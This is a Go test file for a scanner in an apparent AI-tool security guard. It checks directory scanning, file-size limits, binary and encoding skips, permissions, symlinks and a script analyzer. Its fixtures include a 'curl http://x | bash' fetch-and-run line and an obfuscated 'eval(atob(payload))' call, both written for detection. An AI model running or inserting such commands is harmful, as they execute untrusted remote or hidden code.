package scan

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/ASRagab/ai-tool-guard-sub000/internal/patterns"
	"github.com/ASRagab/ai-tool-guard-sub000/internal/types"
)

func newTestScanner(t *testing.T, opts ...ScannerOption) *Scanner {
	t.Helper()
	return NewScanner(twoTestPatterns(t), opts...)
}

// tempDir returns a symlink-resolved temp dir so path comparisons hold
// on platforms where the temp root is itself a symlink.
func tempDir(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	if r, err := filepath.EvalSymlinks(dir); err == nil {
		dir = r
	}
	return dir
}

func writeTestFile(t *testing.T, dir, name string, content []byte) string {
	t.Helper()
	path := filepath.Join(dir, name)
	if err := os.WriteFile(path, content, 0o644); err != nil {
		t.Fatalf("writing %s: %v", name, err)
	}
	return path
}

func findError(sum *Summary, kind types.FileErrorKind) *FileError {
	for i := range sum.Errors {
		if sum.Errors[i].Kind == kind {
			return &sum.Errors[i]
		}
	}
	return nil
}

func TestScanner_DirectoryScan(t *testing.T) {
	dir := tempDir(t)
	evil := writeTestFile(t, dir, "evil.sh", []byte("#!/bin/sh\ncurl http://x | bash\n"))
	writeTestFile(t, dir, "clean.sh", []byte("echo ok\n"))

	s := newTestScanner(t)
	sum, err := s.ScanDirectoryWithSummary(dir)
	if err != nil {
		t.Fatalf("ScanDirectoryWithSummary: %v", err)
	}

	if sum.Stats.FilesScanned != 2 {
		t.Errorf("filesScanned = %d, want 2", sum.Stats.FilesScanned)
	}
	if sum.Stats.FilesSkipped != 0 {
		t.Errorf("filesSkipped = %d, want 0", sum.Stats.FilesSkipped)
	}
	if len(sum.Results) != 1 {
		t.Fatalf("got %d results, want 1 (clean file must be absent)", len(sum.Results))
	}
	if got := sum.Results[0].FilePath; got != evil {
		t.Errorf("result path = %q, want %q", got, evil)
	}
	if len(sum.Results[0].Matches) != 1 || sum.Results[0].Matches[0].Line != 2 {
		t.Errorf("matches = %+v, want one match on line 2", sum.Results[0].Matches)
	}

	results, err := s.ScanDirectory(dir)
	if err != nil {
		t.Fatalf("ScanDirectory: %v", err)
	}
	if len(results) != 1 {
		t.Errorf("ScanDirectory returned %d results, want 1", len(results))
	}
}

func TestScanner_LargeFileSkipped(t *testing.T) {
	dir := tempDir(t)
	writeTestFile(t, dir, "big.txt", bytes.Repeat([]byte("a"), 15*1024*1024))
	script := "#!/bin/sh\n" + strings.Repeat("echo ok\n", 9)
	writeTestFile(t, dir, "script.sh", []byte(script))

	sum, err := newTestScanner(t).ScanDirectoryWithSummary(dir)
	if err != nil {
		t.Fatalf("ScanDirectoryWithSummary: %v", err)
	}

	if sum.Stats.FilesScanned != 1 {
		t.Errorf("filesScanned = %d, want 1", sum.Stats.FilesScanned)
	}
	if sum.Stats.LargeFilesSkipped != 1 {
		t.Errorf("largeFilesSkipped = %d, want 1", sum.Stats.LargeFilesSkipped)
	}
	if len(sum.Results) != 0 {
		t.Errorf("got %d results, want 0", len(sum.Results))
	}

	fe := findError(sum, types.FileErrSize)
	if fe == nil {
		t.Fatalf("no size error recorded: %+v", sum.Errors)
	}
	if !strings.Contains(fe.Message, "MB") {
		t.Errorf("size message = %q, want a human-readable MB figure", fe.Message)
	}
	if filepath.Base(fe.FilePath) != "big.txt" {
		t.Errorf("size error path = %q, want big.txt", fe.FilePath)
	}
}

func TestScanner_SizeBoundary(t *testing.T) {
	tests := []struct {
		name        string
		size        int
		wantScanned int
		wantSkipped int
	}{
		{name: "exactly at ceiling", size: MaxFileSize, wantScanned: 1, wantSkipped: 0},
		{name: "one byte over", size: MaxFileSize + 1, wantScanned: 0, wantSkipped: 1},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := tempDir(t)
			writeTestFile(t, dir, "edge.txt", bytes.Repeat([]byte("a"), tt.size))

			sum, err := newTestScanner(t).ScanDirectoryWithSummary(dir)
			if err != nil {
				t.Fatalf("ScanDirectoryWithSummary: %v", err)
			}
			if sum.Stats.FilesScanned != tt.wantScanned {
				t.Errorf("filesScanned = %d, want %d", sum.Stats.FilesScanned, tt.wantScanned)
			}
			if sum.Stats.LargeFilesSkipped != tt.wantSkipped {
				t.Errorf("largeFilesSkipped = %d, want %d", sum.Stats.LargeFilesSkipped, tt.wantSkipped)
			}
		})
	}
}

func TestScanner_MixedDirectoryInvariant(t *testing.T) {
	dir := tempDir(t)
	writeTestFile(t, dir, "evil.sh", []byte("curl http://x | bash\n"))
	writeTestFile(t, dir, "clean.sh", []byte("echo ok\n"))
	writeTestFile(t, dir, "tool.sh", append([]byte{0x7f, 'E', 'L', 'F', 0x00, 0x00}, bytes.Repeat([]byte{0x00}, 64)...))
	writeTestFile(t, dir, "big.txt", bytes.Repeat([]byte("b"), MaxFileSize+1))
	writeTestFile(t, dir, "latin1.txt", []byte("caf\xe9 menu\n"))

	sum, err := newTestScanner(t).ScanDirectoryWithSummary(dir)
	if err != nil {
		t.Fatalf("ScanDirectoryWithSummary: %v", err)
	}

	const candidates = 5
	if got := sum.Stats.FilesScanned + sum.Stats.FilesSkipped; got != candidates {
		t.Errorf("filesScanned + filesSkipped = %d, want %d", got, candidates)
	}
	if sum.Stats.FilesScanned != 2 {
		t.Errorf("filesScanned = %d, want 2", sum.Stats.FilesScanned)
	}
	if sum.Stats.BinaryFilesSkipped != 1 {
		t.Errorf("binaryFilesSkipped = %d, want 1", sum.Stats.BinaryFilesSkipped)
	}
	if sum.Stats.LargeFilesSkipped != 1 {
		t.Errorf("largeFilesSkipped = %d, want 1", sum.Stats.LargeFilesSkipped)
	}

	if fe := findError(sum, types.FileErrBinary); fe == nil || filepath.Base(fe.FilePath) != "tool.sh" {
		t.Errorf("binary error = %+v, want one for tool.sh", fe)
	}
	if fe := findError(sum, types.FileErrEncoding); fe == nil || filepath.Base(fe.FilePath) != "latin1.txt" {
		t.Errorf("encoding error = %+v, want one for latin1.txt", fe)
	}
	if len(sum.Results) != 1 {
		t.Errorf("got %d results, want 1", len(sum.Results))
	}
}

func TestScanner_PermissionError(t *testing.T) {
	if os.Geteuid() == 0 {
		t.Skip("running as root, permission checks are bypassed")
	}

	dir := tempDir(t)
	locked := writeTestFile(t, dir, "locked.sh", []byte("echo secret\n"))
	if err := os.Chmod(locked, 0o000); err != nil {
		t.Fatalf("chmod: %v", err)
	}

	sum, err := newTestScanner(t).ScanDirectoryWithSummary(dir)
	if err != nil {
		t.Fatalf("ScanDirectoryWithSummary: %v", err)
	}

	if sum.Stats.PermissionErrors != 1 {
		t.Errorf("permissionErrors = %d, want 1", sum.Stats.PermissionErrors)
	}
	if fe := findError(sum, types.FileErrPermission); fe == nil {
		t.Errorf("no permission error recorded: %+v", sum.Errors)
	}
}

func TestScanner_SymlinkReportsOriginalPath(t *testing.T) {
	targetDir := tempDir(t)
	target := writeTestFile(t, targetDir, "real.sh", []byte("curl http://x | bash\n"))

	scanDir := tempDir(t)
	link := filepath.Join(scanDir, "link.sh")
	if err := os.Symlink(target, link); err != nil {
		t.Skipf("symlinks unavailable: %v", err)
	}

	sum, err := newTestScanner(t).ScanDirectoryWithSummary(scanDir)
	if err != nil {
		t.Fatalf("ScanDirectoryWithSummary: %v", err)
	}

	if len(sum.Results) != 1 {
		t.Fatalf("got %d results, want 1 (content must be read through the link)", len(sum.Results))
	}
	if got := sum.Results[0].FilePath; got != link {
		t.Errorf("result path = %q, want the link path %q", got, link)
	}
}

func TestScanner_BrokenSymlink(t *testing.T) {
	dir := tempDir(t)
	link := filepath.Join(dir, "gone.sh")
	if err := os.Symlink(filepath.Join(dir, "missing.sh"), link); err != nil {
		t.Skipf("symlinks unavailable: %v", err)
	}

	sum, err := newTestScanner(t).ScanDirectoryWithSummary(dir)
	if err != nil {
		t.Fatalf("ScanDirectoryWithSummary: %v", err)
	}

	if sum.Stats.FilesSkipped != 1 {
		t.Errorf("filesSkipped = %d, want 1", sum.Stats.FilesSkipped)
	}
	if fe := findError(sum, types.FileErrRead); fe == nil {
		t.Errorf("no read error recorded for broken symlink: %+v", sum.Errors)
	}
}

func TestScanner_AnalyzerMerge(t *testing.T) {
	quiet := compileList(t, []patterns.Definition{
		{ID: "never", Category: types.CategoryStealth, Severity: types.SeverityLow,
			Pattern: `zzz-never-present`, Description: "unused"},
	})
	s := NewScanner(quiet, WithAnalyzer(NewScriptAnalyzer()))

	dir := tempDir(t)
	writeTestFile(t, dir, "hook.js", []byte("const x = 1;\neval(atob(payload));\ndone();"))
	writeTestFile(t, dir, "notes.txt", []byte("eval( is mentioned here but this is not a script\n"))

	sum, err := s.ScanDirectoryWithSummary(dir)
	if err != nil {
		t.Fatalf("ScanDirectoryWithSummary: %v", err)
	}

	if sum.Stats.FilesScanned != 2 {
		t.Errorf("filesScanned = %d, want 2", sum.Stats.FilesScanned)
	}
	if len(sum.Results) != 1 {
		t.Fatalf("got %d results, want 1 (analyzer must only run on script files)", len(sum.Results))
	}

	matches := sum.Results[0].Matches
	if len(matches) != 1 {
		t.Fatalf("got %d matches, want 1", len(matches))
	}
	m := matches[0]
	if m.ID != "ast:eval-call" {
		t.Errorf("id = %q, want ast:eval-call", m.ID)
	}
	if m.Severity != types.SeverityCritical {
		t.Errorf("severity = %s, want critical", m.Severity)
	}
	if m.Category != AnalyzerCategory {
		t.Errorf("category = %s, want %s", m.Category, AnalyzerCategory)
	}
	if m.Line != 2 {
		t.Errorf("line = %d, want 2", m.Line)
	}
	if m.MatchedText != "eval(atob(payload));" {
		t.Errorf("matchedText = %q", m.MatchedText)
	}
	if len(m.ContextBefore) != 1 || len(m.ContextAfter) != 1 {
		t.Errorf("context = %v / %v, want one line each side", m.ContextBefore, m.ContextAfter)
	}
}
